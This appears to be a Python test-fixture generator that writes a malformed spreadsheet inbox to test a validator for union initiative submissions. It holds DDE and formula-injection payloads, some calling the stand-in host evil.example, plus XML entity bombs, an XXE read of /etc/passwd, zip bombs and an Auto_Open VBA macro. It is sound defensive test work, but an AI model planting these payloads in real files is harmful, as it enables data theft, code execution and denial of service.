"""Generator of a hostile/malformed inbox for one district: every file built from code, deterministically.

``build_corpus(root, campaign, registry, district_code)`` writes ≥ 200 files under ``root/inbox`` and returns
``{path: category}``. Nothing here is a committed blob: zip surgery, XML bombs, a minimal OLE2 writer (copied
from tests/test_safety.py), openpyxl edits and an optional LibreOffice round trip.
"""

from __future__ import annotations

import datetime as dt
import io
import random
import shutil
import struct
import unicodedata
import zipfile
from pathlib import Path

import openpyxl

from addin.libreoffice import convert_all, find_soffice
from addin.registry import Cdcs
from addin.sample.fastfill import fast_fill_workbook
from addin.sample.fill import valid_initiative, valid_unit_answers
from addin.templates import build_template, generate_templates
from validators import layout as L
from validators.legacy_text import from_unicode

MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SEED = 75_2021

FORMULAS = [
    '=HYPERLINK("http://evil.example/x","bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!A1",
    '=WEBSERVICE("http://evil.example")',
    "=1+1",
    "+1",
    "-A1",
    "@A1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t@SUM(1)",
]

from ole import cfb  # noqa: E402


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


def zip_bytes(parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    items = parts.items() if isinstance(parts, dict) else parts
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in items:
            zf.writestr(name, data)
    return buf.getvalue()


def patch_declared_size(data: bytes, member: str, size: int) -> bytes:
    b = bytearray(data)
    i = 0
    while (i := b.find(b"PK\x01\x02", i)) >= 0:
        nlen = struct.unpack_from("<H", b, i + 28)[0]
        if bytes(b[i + 46:i + 46 + nlen]).decode() == member:
            local = struct.unpack_from("<I", b, i + 42)[0]
            struct.pack_into("<I", b, i + 24, size)
            struct.pack_into("<I", b, local + 22, size)
        i += 4
    return bytes(b)


def sheet_part(parts: dict[str, bytes], sheet_name: str) -> str:
    """The zip member of ``sheet_name`` (via workbook.xml and its rels)."""
    import re
    wb = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    for m in re.finditer(r'<sheet\b[^>]*?name="([^"]*)"[^>]*?r:id="([^"]*)"', wb):
        if m.group(1) == sheet_name:
            t = re.search(r'<Relationship\b[^>]*?Id="%s"[^>]*?Target="([^"]*)"' % m.group(2), rels) or \
                re.search(r'<Relationship\b[^>]*?Target="([^"]*)"[^>]*?Id="%s"' % m.group(2), rels)
            target = t.group(1).lstrip("/")
            return target if target.startswith("xl/") else "xl/" + target
    raise KeyError(sheet_name)


_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
           + b"]>\n")


# ------------------------------------------------------------------------------------------------------------
# The corpus
# ------------------------------------------------------------------------------------------------------------
def build_corpus(root: Path, campaign, registry, district_code: str, *, libreoffice: bool = True) -> dict[Path, str]:
    root = Path(root)
    rng = random.Random(SEED)
    inbox = root / "inbox"
    inbox.mkdir(parents=True, exist_ok=True)
    tpl_dir = root / "templates"
    generate_templates(campaign, registry, tpl_dir, district_code=district_code, include_blank=False)
    tpl = {p.name.split(" - ")[0]: p for p in tpl_dir.rglob("*.xlsx")}
    units = [c for c in registry.cdcs if c.parent == district_code]
    district = registry.district_by_code[district_code]
    out: dict[Path, str] = {}
    seq = iter(range(10**6))
    work = root / "work"
    work.mkdir(exist_ok=True)

    def name(cat: str, ext: str = ".xlsx", unit: Cdcs | None = None) -> Path:
        n = next(seq)
        prefix = f"{unit.code} - " if unit else ""
        return inbox / f"{prefix}{n:03d}-{cat}{ext}"

    def put(cat: str, data: bytes, ext: str = ".xlsx", unit: Cdcs | None = None) -> Path:
        p = name(cat, ext, unit)
        p.write_bytes(data)
        out[p] = cat
        return p

    def rows_for(c: Cdcs, n: int) -> list[dict]:
        return [valid_initiative(campaign, c, rng, number=i + 1, nominated=i == 0) for i in range(n)]

    def filled(c: Cdcs, rows: list[dict] | None = None, unit_over: dict | None = None, template: Path | None = None) -> bytes:
        unit = valid_unit_answers(campaign, c, rng)
        unit.update(unit_over or {})
        p = work / f"f{next(seq)}.xlsx"
        fast_fill_workbook(template or tpl[c.code], p, unit, rows if rows is not None else rows_for(c, rng.randint(1, 3)))
        return p.read_bytes()

    def fill_put(cat: str, c: Cdcs, rows=None, unit_over=None, ext=".xlsx") -> Path:
        return put(cat, filled(c, rows, unit_over), ext, unit=c)

    pick = lambda: rng.choice(units)  # noqa: E731
    base = filled(units[0])
    base_parts = parts_of_bytes = None
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        base_parts = {n: zf.read(n) for n in zf.namelist()}
    ini_part = sheet_part(base_parts, L.SHEET_INITIATIVES)

    # --- valid baseline ------------------------------------------------------------------------------------
    for c in units[:20]:
        fill_put("valid", c)

    # --- not a workbook --------------------------------------------------------------------------------------
    put("not-a-workbook", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    put("not-a-workbook", b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(2000)))
    put("not-a-workbook", zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}))
    put("not-a-workbook", "STT,Tên sáng kiến,Tác giả\n1,Cải tiến,Nguyễn Văn A\n".encode("utf-8"))
    put("not-a-workbook", "STT;Tên sáng kiến\n1;=cmd|' /C calc'!A0\n".encode("cp1258", "replace"), ext=".xls")
    put("not-a-workbook", b"<html><body><table><tr><td>1</td></tr></table></body></html>")
    put("not-a-workbook", b"<html><table><tr><td>x</td></tr></table></html>", ext=".xls")
    put("not-a-workbook", b"")
    put("not-a-workbook", b"", ext=".xls")
    put("not-a-workbook", b"PK")
    put("not-a-workbook", b"PK\x05\x06" + b"\0" * 18)
    put("not-a-workbook", zip_bytes({"a.txt": b"hello"}))
    put("not-a-workbook", zip_bytes({"inner.xlsx": base}))
    put("not-a-workbook", cfb({"WordDocument": b"\x00" * 100}), ext=".xls")
    put("not-a-workbook", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ext=".xls")
    put("not-a-workbook", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>', ext=".xls")
    for _ in range(12):
        put("not-a-workbook", bytes(rng.randrange(256) for _ in range(rng.randint(1, 5000))), ext=rng.choice([".xlsx", ".xls", ".ods", ".xlsm"]))

    # --- corrupt zip ----------------------------------------------------------------------------------------
    for _ in range(10):
        put("corrupt-zip", base[: rng.randint(10, len(base) - 1)])
    for _ in range(14):
        b = bytearray(base)
        for _ in range(rng.randint(1, 20)):
            b[rng.randrange(len(b))] ^= 1 << rng.randrange(8)
        put("corrupt-zip", bytes(b))
    b = bytearray(base)
    cd = b.rfind(b"PK\x01\x02")
    b[cd:cd + 4] = b"XXXX"
    put("corrupt-zip", bytes(b))

    # --- zip bombs --------------------------------------------------------------------------------------------
    for size in (2**30, 2**31, 2**32 - 1):
        put("zip-bomb-declared", patch_declared_size(base, ini_part, size))
    for mb in (8, 16, 40):
        bomb = b'<?xml version="1.0"?><worksheet xmlns="' + MAIN_NS + b'"><sheetData>' + b" " * (mb * 2**20) + b"</sheetData></worksheet>"
        put("zip-bomb-actual", zip_bytes({**base_parts, ini_part: bomb}))
    # nested-zip bomb-ish: a member full of zeros declared tiny
    put("zip-bomb-actual", zip_bytes({**base_parts, "xl/media/image1.png": b"\0" * (50 * 2**20)}))

    # --- too many members ---------------------------------------------------------------------------------
    for n in (2100, 3000, 5000):
        put("too-many-members", zip_bytes(list(base_parts.items()) + [(f"xl/media/image{i}.png", b"x") for i in range(n)],
                                          zipfile.ZIP_STORED))

    # --- XML entity bombs --------------------------------------------------------------------------------------
    for part in ("xl/workbook.xml", ini_part, "[Content_Types].xml", "docProps/core.xml"):
        if part not in base_parts:
            continue
        body = base_parts[part].split(b"?>", 1)[1] if base_parts[part].startswith(b"<?xml") else base_parts[part]
        put("xml-entity-bomb", zip_bytes({**base_parts, part: _LAUGHS + body}))
    xxe = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b'<sst xmlns="' + MAIN_NS + b'" count="1" uniqueCount="1"><si><t>&e;</t></si></sst>')
    put("xml-entity-bomb", zip_bytes({**base_parts, "xl/sharedStrings.xml": xxe}))
    put("xml-entity-bomb", zip_bytes({**base_parts, "xl/sharedStrings.xml": _LAUGHS + b'<sst xmlns="' + MAIN_NS + b'"><si><t>&lol9;</t></si></sst>'}))

    # --- encrypted ----------------------------------------------------------------------------------------------
    for i in range(4):
        put("encrypted", cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                              "EncryptedPackage": bytes(rng.randrange(256) for _ in range(64 + 32 * i))}),
            ext=(".xlsx", ".xlsx", ".xls", ".xlsm")[i])

    # --- huge description ---------------------------------------------------------------------------------------
    for k in range(3):
        c = pick()
        rows = rows_for(c, 2)
        rows[k % 2]["Tóm tắt nội dung"] = ("Nội dung rất dài ừ ữ ợ. " * 50_000)[: 2**20 - k]
        fill_put("huge-description", c, rows)

    # --- thousands of rows ---------------------------------------------------------------------------------------
    c = units[1]
    rows = rows_for(c, 50)
    fill_put("thousands-of-rows", c, [dict(rows[i % 50], STT=i + 1) for i in range(3000)])

    # --- formula injection ---------------------------------------------------------------------------------------
    cols = ["Tên sáng kiến", "Tác giả", "Ghi chú", "Chức vụ, nghề nghiệp", "Đồng tác giả", "Tóm tắt nội dung", "Số điện thoại"]
    for i, f in enumerate(FORMULAS):
        c = pick()
        rows = rows_for(c, 2)
        rows[0][cols[i % len(cols)]] = f
        rows[1]["Ghi chú"] = FORMULAS[(i + 3) % len(FORMULAS)]
        unit_over = {"NGUOI_LAP": f} if i % 3 == 0 else {"PHONG_TRAO_DAC_THU": f} if i % 3 == 1 else None
        fill_put("formula-injection", c, rows, unit_over)
    # a real formula cell in the unit's sheet (not typed text): <f> in the sheet XML
    for i in range(3):
        sheet = base_parts[ini_part]
        cellref = f"E{L.TABLE_HEADER_ROW + 1}".encode()
        import re
        new = re.sub(rb'<c r="' + cellref + rb'"[^>]*?(?:/>|>.*?</c>)',
                     b'<c r="' + cellref + b'" t="str"><f>HYPERLINK("http://evil.example/' + str(i).encode()
                     + b'","x")</f><v>x</v></c>', sheet, count=1, flags=re.S)
        put("formula-injection", zip_bytes({**base_parts, ini_part: new}), unit=units[0])

    # --- legacy text (TCVN3 / VNI) ----------------------------------------------------------------------------------
    for i in range(10):
        c = pick()
        enc = ("tcvn3", "vni")[i % 2]
        rows = rows_for(c, 2)
        for r in rows:
            for k in ("Tên sáng kiến", "Tác giả", "Tóm tắt nội dung"):
                r[k] = from_unicode(str(r[k]), enc)
        unit_over = {"NGUOI_LAP": from_unicode("Nguyễn Thị Hường", enc)}
        fill_put("legacy-text", c, rows, unit_over)

    # --- NFD / NBSP / zero width ------------------------------------------------------------------------------------
    tricks = [lambda s: unicodedata.normalize("NFD", s), lambda s: s.replace(" ", "\u00a0"),
              lambda s: "\u200b" + s + "\ufeff", lambda s: s.replace(" ", " \u200d"), lambda s: "\u202e" + s,
              lambda s: s + "\u00a0\u00a0", lambda s: "\u2028".join(s.split(" ", 1))]
    for i in range(10):
        c = pick()
        t = tricks[i % len(tricks)]
        rows = rows_for(c, 2)
        for r in rows:
            for k in ("Tên sáng kiến", "Tác giả", "Giới tính", "Lĩnh vực", "Khối", "Đề xuất cấp trên"):
                if isinstance(r.get(k), str):
                    r[k] = t(r[k])
        fill_put("unicode-oddities", c, rows, {"KHOI": t(str(valid_unit_answers(campaign, c, rng)["KHOI"]))})

    # --- dates ------------------------------------------------------------------------------------------------------
    date_variants = [44270, 44270.5, "15/03/2021", "2021-03-15", "15.3.2021", "ngày 15 tháng 3 năm 2021",
                     "15/3/21", "03/15/2021", "31/02/2021", "44270", "15-03-2021", "tháng 3/2021", -5, 10**9, "2021"]
    for i, v in enumerate(date_variants):
        c = pick()
        rows = rows_for(c, 2)
        rows[0]["Ngày bắt đầu áp dụng"] = v
        uo = {"NGAY_GUI": v} if i % 2 else {"NGAY_KY_KE_HOACH": v}
        fill_put("dates", c, rows, uo)

    # --- numbers as text ---------------------------------------------------------------------------------------------
    num_variants = ["1.500.000 đ", "1,500,000", "1.500.000đ", "2 triệu", "1 500 000", "-1.000", "1,5tr", "VND 300000",
                    "1.500.000,50", "١٢٣"]
    for i, v in enumerate(num_variants):
        c = pick()
        rows = rows_for(c, 2)
        rows[0]["Giá trị làm lợi (đồng)"] = v
        rows[1]["Năm sinh"] = ("1.980", "một chín tám mươi", "80", "1980.0", "19 80")[i % 5]
        fill_put("numbers-as-text", c, rows, {"SO_DOAN_VIEN": ("1.200", "năm mươi", "50 người", "-3", "0")[i % 5]})

    # --- wrong sheet names --------------------------------------------------------------------------------------------
    for i, (old, new) in enumerate([(L.SHEET_INITIATIVES, "Sheet1"), (L.SHEET_UNIT, "Don vi"),
                                    (L.SHEET_INITIATIVES, "Sang kien"), (L.SHEET_META, "meta"),
                                    (L.SHEET_INITIATIVES, unicodedata.normalize("NFD", L.SHEET_INITIATIVES))]):
        c = pick()
        parts = parts_of(_tmp_write(work, filled(c)))
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(f'name="{old}"'.encode(), f'name="{new}"'.encode())
        put("wrong-sheet-name", zip_bytes(parts), unit=c)

    # --- openpyxl edits: missing header, reordered columns, table → range --------------------------------------------
    hr = L.TABLE_HEADER_ROW
    for i in range(12):
        c = pick()
        src = _tmp_write(work, filled(c, rows_for(c, 3)))
        wb = openpyxl.load_workbook(src)
        ws = wb[L.SHEET_INITIATIVES]
        if i < 4:
            cat = "missing-header"
            for cell in ws[hr]:
                cell.value = None
            if i % 2:
                ws.delete_rows(hr)
            for t in list(ws.tables):
                del ws.tables[t]
        elif i < 8:
            cat = "reordered-columns"
            maxc = ws.max_column
            grid = [[ws.cell(r, col).value for col in range(1, maxc + 1)] for r in range(hr, ws.max_row + 1)]
            order = list(range(maxc))
            rng.shuffle(order)
            for r_off, row in enumerate(grid):
                for j, col in enumerate(order):
                    ws.cell(hr + r_off, j + 1).value = row[col]
            for t in list(ws.tables):
                del ws.tables[t]
        else:
            cat = "table-to-range"
            for t in list(ws.tables):
                del ws.tables[t]
            if i % 2:
                ws.insert_rows(1)  # an extra title row
        p = name(cat, unit=c)
        wb.save(p)
        out[p] = cat

    # --- another campaign's stamp --------------------------------------------------------------------------------------
    for i in range(5):
        c = pick()
        parts = parts_of(_tmp_write(work, filled(c)))
        other = ("tld-2019", "tld-75-nghin-2020", "", "x" * 200, "tld-75-nghin-2021-khac")[i].encode()
        for k, v in parts.items():
            if k.endswith(".xml"):
                parts[k] = v.replace(campaign.id.encode(), other)
        put("other-campaign", zip_bytes(parts), unit=c)

    # --- another unit's file -----------------------------------------------------------------------------------------
    others = [c for c in registry.cdcs if c.parent != district_code]
    for i in range(6):
        if i < 3 and others:
            c = others[i % len(others)]
            p = work / f"o{i}.xlsx"
            build_template(campaign, c, registry.district_by_code[c.parent], p)
            unit = valid_unit_answers(campaign, c, rng)
            q = name("another-unit", unit=c)
            fast_fill_workbook(p, q, unit, rows_for(c, 2))
            out[q] = "another-unit"
        elif i < 5:
            # unit A's template filled with unit B's code typed over MA_DON_VI... and named after B
            a, b = units[2], units[3 + i]
            q = name("another-unit", unit=b)
            q.write_bytes(filled(a, unit_over={}))
            out[q] = "another-unit"
        else:
            stranger = Cdcs(code="ZZ998", name="Công đoàn cơ sở lạ", parent=district_code, bloc=campaign.blocs[0])
            p = work / "zz.xlsx"
            build_template(campaign, stranger, district, p)
            q = name("another-unit", unit=stranger)
            fast_fill_workbook(p, q, valid_unit_answers(campaign, stranger, rng), rows_for(stranger, 1))
            out[q] = "another-unit"

    # --- macro-enabled .xlsm --------------------------------------------------------------------------------------------
    for i in range(5):
        c = pick()
        parts = parts_of(_tmp_write(work, filled(c)))
        parts["xl/vbaProject.bin"] = cfb({"VBA": b"Attribute VB_Name = \"Module1\"\nSub Auto_Open()\nShell \"calc\"\nEnd Sub\n"})
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        put("macro-xlsm", zip_bytes(parts), ext=".xlsm", unit=c)

    # --- far cells ---------------------------------------------------------------------------------------------------
    for i, ref in enumerate(["XFD1048576", "A1048576", "XFD1", "ZZ500000", "AAA100000"]):
        c = pick()
        parts = parts_of(_tmp_write(work, filled(c)))
        target = ini_part if i % 2 == 0 else sheet_part(parts, L.SHEET_UNIT)
        row = int("".join(ch for ch in ref if ch.isdigit()))
        parts[target] = parts[target].replace(
            b"</sheetData>", b'<row r="%d"><c r="%s"><v>2</v></c></row></sheetData>' % (row, ref.encode()))
        put("far-cell", zip_bytes(parts), unit=c)

    # --- LibreOffice round trip ----------------------------------------------------------------------------------------
    if libreoffice and find_soffice():
        lo_src = work / "lo"
        lo_src.mkdir()
        srcs = []
        for i in range(3):
            c = units[4 + i]
            s = lo_src / f"{c.code} - lo{i}.xlsx"
            s.write_bytes(filled(c))
            srcs.append(s)
        for fmt in ("xlsx", "xls"):
            outdir = work / f"lo-{fmt}"
            for p in convert_all(srcs, fmt, outdir):
                q = inbox / f"{p.stem}-libreoffice.{fmt}"
                shutil.copyfile(p, q)
                out[q] = f"libreoffice-{fmt}"
    return out


def _tmp_write(work: Path, data: bytes) -> Path:
    p = work / f"t{len(list(work.iterdir()))}.xlsx"
    p.write_bytes(data)
    return p


DISTRICT, OTHER = "HX", "HY"


def make_registry(campaign, n_units: int = 20):
    """A small registry: district HX with ``n_units`` CĐCS, district HY with 3."""
    from addin.registry import District, Registry

    districts = (District(code=DISTRICT, name="Liên đoàn Lao động huyện Hòa Xuân", kind="LĐLĐ huyện"),
                 District(code=OTHER, name="Liên đoàn Lao động huyện Yên Hà", kind="LĐLĐ huyện"))
    cdcs = [Cdcs(code=f"{DISTRICT}{n:03d}", name=f"Công đoàn cơ sở Đơn vị số {n} Hòa Xuân", parent=DISTRICT,
                 bloc=campaign.blocs[n % 2], members=20 + n, contact=f"Người liên hệ {n}",
                 phone=f"09{n:08d}", email=f"cdcs{n}@example.vn") for n in range(n_units)]
    cdcs += [Cdcs(code=f"{OTHER}{n:03d}", name=f"Công đoàn cơ sở Yên Hà {n}", parent=OTHER,
                  bloc=campaign.blocs[0], members=30) for n in range(3)]
    return Registry(province="Đắk Nông", province_code="DNO", districts=districts, cdcs=tuple(cdcs))
